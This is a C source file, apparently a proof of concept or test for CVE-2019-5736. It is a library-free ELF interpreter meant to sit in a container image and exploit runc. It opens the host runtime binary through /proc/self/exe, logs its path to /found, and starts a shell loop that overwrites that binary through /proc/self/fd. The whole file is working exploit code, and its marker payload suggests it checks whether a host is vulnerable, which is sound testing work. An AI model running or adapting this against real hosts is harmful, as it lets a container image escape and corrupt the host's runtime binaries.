/* An ELF interpreter as an image would bring it against CVE-2019-5736.
 *
 * Whoever executes the container's command by "#!/proc/self/exe" gets loaded again, by this. It says
 * which program that was, keeps it open, and leaves it to a shell to overwrite it once nobody
 * executes it any more. Without a library: it is the one who would load them.
 */

#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall"
	                 : "=a"(result)
	                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return result;
}

static char script[] =
	"exec 9</proc/self/fd/%; i=0;"
	"while [ $i -lt 100 ]; do"
	"  (echo overwritten > /proc/self/fd/9) 2>/dev/null && echo done > /found && exit;"
	"  sleep 0.05; i=$((i+1));"
	"done";

void _start(void)
{
	static char path[4096] = "reached ";
	long fd = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
	long length = call(SYS_readlink, (long)"/proc/self/exe", (long)path + 8, sizeof path - 9, 0);
	long out = call(SYS_open, (long)"/found", O_WRONLY | O_CREAT, 0644, 0);
	if (length > 0)
		path[8 + length] = '\n';
	call(SYS_write, out, (long)path, length + 9, 0);
	call(SYS_write, 1, (long)path, length + 9, 0);
	for (char *c = script; *c; c++)
		if (*c == '%')
			*c = '0' + fd;
	char *argv[] = {"sh", "-c", script, 0}, *envp[] = {"PATH=/bin", 0};
	call(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp, 0);
	call(SYS_exit_group, 99, 0, 0, 0);
	__builtin_unreachable();
}
